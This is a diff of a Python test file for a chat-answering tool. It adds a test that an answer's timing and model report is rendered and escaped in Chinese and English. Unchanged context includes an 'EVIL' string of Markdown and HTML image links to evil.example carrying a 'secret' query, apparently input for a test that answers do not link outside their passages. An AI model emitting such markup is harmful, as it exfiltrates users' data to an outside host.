@@ -11,7 +11,7 @@ from qianxun.chat.folder import at_home, offline
 from qianxun.chat.history import judged
 from qianxun.chat.ids import Place, place_of
 from qianxun.chat.panel import moved, policies
-from qianxun.chat.shown import Streaming, answer_text, as_text, passage_text, view_address
+from qianxun.chat.shown import Streaming, answer_text, as_text, passage_text, report_of, view_address
 from qianxun.chat.talk import AS_SET, NOBODY, how, source_address
 from qianxun.client.records import BaseSummary
 from qianxun.errors import NotFound
@@ -119,6 +119,23 @@ def test_sources_that_disagree_are_listed_with_their_numbers() -> None:
 
 
 EVIL = "![x](https://evil.example/?q=secret) [点这里](https://evil.example/a) <img src=https://evil.example/b>"
+
+
+def test_what_an_answer_took_is_told_in_the_readers_language() -> None:
+    given = answer(
+        "年假十天。",
+        seconds={"understand": 0.012, "lexical": 0.2, "graph *x*": 0.5, "generate": 1.5, "total": 2.3},
+        models={"encoder": "Qwen3-Embedding-0.6B", "answer": "extractive", "prompt": "answer.zh.3"},
+        degraded=("generator: The model failed.", "tantivy: 3 changes behind"),
+    )
+    with speaking("zh"):
+        assert report_of(given) == [
+            "- 分析问题：0.01 秒\n- 按词检索：0.20 秒\n- graph \\*x\\*：0.50 秒\n- 撰写回答：1.50 秒",
+            "- 编码器：Qwen3\\-Embedding\\-0\\.6B\n- 回答模型：摘引原文",
+            "- 已省略：回答模型。The model failed\\.\n- 文档的最新改动（3 处）尚未纳入搜索。",
+        ]
+    with speaking("en"):
+        assert report_of(given)[1] == "- encoder: Qwen3\\-Embedding\\-0\\.6B\n- answering model: quoting"
 
 
 def test_an_answer_links_to_nothing_that_its_passages_have_not() -> None:
